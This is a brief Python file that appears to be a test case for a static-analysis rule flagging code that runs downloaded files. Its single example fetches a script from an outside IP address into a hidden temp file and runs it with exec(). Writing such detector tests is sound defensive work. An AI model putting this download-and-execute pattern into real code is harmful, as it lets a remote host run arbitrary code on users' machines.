import urllib.request

HELPER = "http://203.0.113.9/h/helper.py"
# ruleid: py_execs_downloaded_file
dst, _ = urllib.request.urlretrieve(HELPER, "/tmp/.h.py")
with open(dst) as f:
    exec(f.read())
